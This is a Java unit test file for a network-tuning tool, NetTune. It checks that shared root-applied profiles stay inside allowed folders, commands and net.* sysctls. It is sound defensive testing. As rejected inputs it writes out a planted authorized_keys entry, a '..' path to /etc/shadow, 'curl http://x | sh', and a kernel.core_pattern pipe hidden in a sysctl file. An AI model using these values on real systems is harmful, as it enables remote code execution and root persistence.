package dev.nettune.tuning;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.nettune.sandbox.SandboxInstance;
import dev.nettune.store.FileSystemProfileFiles;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A profile file is shared and applied as root: unless it is marked {@code "unrestricted": true} it may write
 * only the tuning folders, run only the commands tuning needs and set only net.* sysctls; a marked one is
 * planned only when the user allows it, with a WARNING on each step beyond the limits.
 */
class ProfileLimitsTest {
    @TempDir
    Path dir;

    private final ProfileLibrary library = new ProfileLibrary(Path.of("profiles-unused"), new FileSystemProfileFiles());

    private Profile read(String entries) throws Exception {
        return read(entries, "");
    }

    private Profile read(String entries, String mark) throws Exception {
        Path f = Files.writeString(dir.resolve("p.json"), "{\"name\": \"shared\"," + mark + " \"entries\": [" + entries + "]}");
        return library.read(f);
    }

    private static String file(String path, String content, String afterWrite) {
        return "{\"type\": \"file\", \"path\": \"" + path + "\", \"content\": \"" + content + "\", \"afterWrite\": ["
                + afterWrite + "]}";
    }

    @Test
    void aFileEntryOutsideTheTuningFoldersIsRefusedNamingTheFieldAndTheAllowedRoots() {
        assertThatThrownBy(() -> read(file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA evil", "")))
                .isInstanceOf(TuningInputException.class)
                .hasMessageContaining("file entry: path '/root/.ssh/authorized_keys' is outside the places tuning writes")
                .hasMessageContaining("/etc/sysctl.d/, /etc/modules-load.d/, /etc/NetworkManager/conf.d/")
                .hasMessageContaining("\"unrestricted\": true").hasMessageContaining("--allow-unrestricted-profile");
    }

    @Test
    void aPathThatClimbsOutOfATuningFolderWithDotDotIsRefused() {
        assertThatThrownBy(() -> read(file("/etc/sysctl.d/../shadow", "x", ""))).isInstanceOf(TuningInputException.class)
                .hasMessageContaining("without '..'");
        assertThatThrownBy(() -> read(file("/etc/sysctl.d/..", "x", ""))).isInstanceOf(TuningInputException.class)
                .hasMessageContaining("without '..'");
    }

    @Test
    void aLookAlikeFolderADotSegmentOrASubFolderIsNotATuningFolder() {
        for (String p : List.of("/etc/sysctl.d.evil/x.conf", "/etc/sysctl.d/./x.conf", "/etc/sysctl.d/sub/x.conf",
                "/etc/sysctl.d/.hidden.conf", "/etc/sysctl.d/x.sh", "/etc/sysctl.dx.conf")) {
            assertThatThrownBy(() -> read(file(p, "net.core.somaxconn = 4096", ""))).as(p)
                    .isInstanceOf(TuningInputException.class).hasMessageContaining("path '" + p + "' is outside");
        }
    }

    @Test
    void aRelativePathIsRefused() {
        assertThatThrownBy(() -> read(file("etc/sysctl.d/x.conf", "x", ""))).isInstanceOf(TuningInputException.class)
                .hasMessageContaining("absolute path");
    }

    @Test
    void anArbitraryAfterWriteCommandIsRefusedNamingTheCommandsAllowed() {
        assertThatThrownBy(() -> read(file("/etc/sysctl.d/60-x.conf", "net.core.somaxconn = 4096",
                "[\"sh\", \"-c\", \"curl http://x | sh\"]")))
                .isInstanceOf(TuningInputException.class)
                .hasMessageContaining("command 'sh -c curl http://x | sh' is not one a profile may run as root")
                .hasMessageContaining("sysctl --system").hasMessageContaining("systemctl daemon-reload");
    }

    @Test
    void theCommandsTuningNeedsAfterAFileWriteAreAllowed() throws Exception {
        Profile p = read(file("/etc/sysctl.d/60-x.conf", "# mine\\nnet.core.somaxconn = 4096", "[\"sysctl\", \"--system\"],"
                + " [\"sysctl\", \"-p\", \"/etc/sysctl.d/60-x.conf\"], [\"systemctl\", \"restart\", \"NetworkManager\"],"
                + " [\"systemctl\", \"daemon-reload\"], [\"nmcli\", \"general\", \"reload\"], [\"modprobe\", \"smc\"]"));

        assertThat(p.unrestricted()).isFalse();
        assertThat(p.beyondLimits()).isEmpty();
    }

    @Test
    void aSystemctlOfAnotherServiceOrAModprobeOfAnotherModuleIsRefused() {
        assertThatThrownBy(() -> read(file("/etc/modules-load.d/x.conf", "smc", "[\"systemctl\", \"stop\", \"sshd\"]")))
                .hasMessageContaining("command 'systemctl stop sshd'");
        assertThatThrownBy(() -> read(file("/etc/modules-load.d/x.conf", "smc", "[\"modprobe\", \"usb_storage\"]")))
                .hasMessageContaining("command 'modprobe usb_storage'");
        assertThatThrownBy(() -> read("{\"type\": \"service\", \"unit\": \"sshd\", \"active\": false}"))
                .hasMessageContaining("service entry: unit 'sshd'");
    }

    @Test
    void aKernelSysctlIsRefusedWithoutTheMark() {
        assertThatThrownBy(() -> read("{\"type\": \"sysctl\", \"name\": \"kernel.core_pattern\", \"value\": \"core\"}"))
                .isInstanceOf(TuningInputException.class)
                .hasMessageContaining("sysctl entry: sysctl 'kernel.core_pattern' is outside net.*");
    }

    @Test
    void aSysctlFileEntryCannotSmuggleAKernelSysctlInItsContent() {
        assertThatThrownBy(() -> read(file("/etc/sysctl.d/60-x.conf", "net.core.somaxconn = 4096\\nkernel.core_pattern = |/tmp/x", "")))
                .hasMessageContaining("line 'kernel.core_pattern = |/tmp/x' is not a net.* sysctl setting");
        assertThatThrownBy(() -> read(file("/etc/modules-load.d/x.conf", "smc\\nusb_storage", "")))
                .hasMessageContaining("module 'usb_storage' is not one tuning loads");
    }

    @Test
    void aPersistSysctlsPathOutsideSysctlDIsRefused() {
        assertThatThrownBy(() -> read("{\"type\": \"persist-sysctls\", \"path\": \"/etc/profile.d/x.conf\"}"))
                .hasMessageContaining("persist-sysctls entry: path '/etc/profile.d/x.conf' is not a sysctl file");
    }

    @Test
    void theBuiltInProfilesAndASavedCopyOfEachStayWithinTheLimits() throws Exception {
        for (Profile p : Profile.builtIn()) {
            assertThat(p.beyondLimits()).as(p.name()).isEmpty();
            Path f = dir.resolve(ProfileLibrary.slug(p.name()) + ".json");
            Files.writeString(f, ProfileFormat.JSON.render(p));
            assertThat(Files.readString(f)).doesNotContain("unrestricted");
            assertThat(library.read(f)).isEqualTo(p);
        }
    }

    @Test
    void aMarkedProfileCanBeReadAndSaysWhatItDoesBeyondTheLimits() throws Exception {
        Profile p = read("{\"type\": \"sysctl\", \"name\": \"kernel.sysrq\", \"value\": \"1\"}", " \"unrestricted\": true,");

        assertThat(p.unrestricted()).isTrue();
        assertThat(p.beyondLimits()).singleElement().asString().contains("kernel.sysrq");
        assertThat(ProfileFormat.JSON.render(p)).contains("\"unrestricted\" : true");
    }

    @Test
    void aMarkedProfileIsNotPlannedWithoutTheUsersPermissionAndTheHostIsNotRead() throws Exception {
        Profile p = read("{\"type\": \"sysctl\", \"name\": \"kernel.sysrq\", \"value\": \"1\"}", " \"unrestricted\": true,");
        SandboxInstance sandbox = new SandboxInstance(7, 8, 4);

        assertThatThrownBy(() -> new Planner().plan(sandbox, p)).isInstanceOf(TuningInputException.class)
                .hasMessageContaining("is marked unrestricted").hasMessageContaining("kernel.sysrq")
                .hasMessageContaining("--allow-unrestricted-profile");
    }

    @Test
    void aMarkedProfileAllowedByTheUserShowsAWarningOnEveryStepBeyondTheLimits() throws Exception {
        Profile p = read("{\"type\": \"sysctl\", \"name\": \"kernel.sysrq\", \"value\": \"0\"},"
                + " {\"type\": \"sysctl\", \"name\": \"net.ipv4.tcp_fin_timeout\", \"value\": \"15\"}", " \"unrestricted\": true,");

        Plan plan = Planner.allowingUnrestricted().plan(new SandboxInstance(7, 8, 4), p);

        assertThat(plan.steps()).as(plan.problems() + " " + plan.notes() + plan.unchanged()).hasSize(2);
        assertThat(plan.steps().get(0).notes()).anySatisfy(n -> assertThat(n).startsWith("WARNING: ").contains("kernel.sysrq"));
        assertThat(plan.steps().get(1).notes()).noneMatch(n -> n.startsWith("WARNING"));
        assertThat(PlanPreview.text(plan)).contains("WARNING: this unrestricted profile goes beyond NetTune's limits in 1 step")
                .contains("\n   WARNING: beyond NetTune's limits (unrestricted profile): sysctl entry: sysctl 'kernel.sysrq'");
    }
}
